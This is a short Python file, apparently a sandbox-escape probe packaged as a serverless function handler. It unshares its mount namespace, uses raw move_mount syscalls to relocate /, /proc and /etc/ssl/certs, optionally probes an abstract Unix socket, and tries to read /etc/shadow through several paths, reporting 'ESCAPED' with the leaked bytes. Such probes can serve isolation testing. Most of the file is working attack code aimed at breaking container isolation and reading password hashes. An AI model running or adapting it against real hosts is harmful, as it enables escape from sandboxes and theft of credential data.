# While it is loaded it still holds one right over its own mounts: moves them about as far as it is let. Answers what it did.
import ctypes
import os
import socket

libc = ctypes.CDLL(None, use_errno=True)
UNSHARE, MOVE_MOUNT, NEW_MOUNTS, BY_DESCRIPTORS = 272, 429, 0x20000, 0x4 | 0x40
DONE = []


def note(what, result):
    DONE.append(f"{what}: {'done' if result == 0 else os.strerror(ctypes.get_errno())}")


def move(what, to):
    source, target = os.open(what, os.O_PATH), os.open(to, os.O_PATH)
    note(f"move {what} to {to}", libc.syscall(MOVE_MOUNT, source, b"", target, b"", BY_DESCRIPTORS))


def abstract(name):
    with socket.socket(socket.AF_UNIX) as connection:
        try:
            connection.connect("\0" + name)
            note("abstract socket", 0)
        except OSError as error:
            ctypes.set_errno(error.errno)
            note("abstract socket", 1)


if os.environ.get("ABSTRACT"):
    abstract(os.environ["ABSTRACT"])
note("unshare", libc.syscall(UNSHARE, NEW_MOUNTS))
for folder in ("/tmp/a", "/tmp/b", "/tmp/c"):
    os.makedirs(folder, exist_ok=True)
move("/", "/tmp/a")
move("/proc", "/tmp/b")
move("/etc/ssl/certs", "/tmp/c")
for path in ("/tmp/b/1/root/etc/shadow", "/proc/1/root/etc/shadow", "/etc/ssl/../shadow"):
    try:
        DONE.append(f"{path}: ESCAPED {open(path).read(20)}")
    except OSError as error:
        DONE.append(f"{path}: {error.strerror}")


def handler(event, context):
    return "; ".join(DONE)
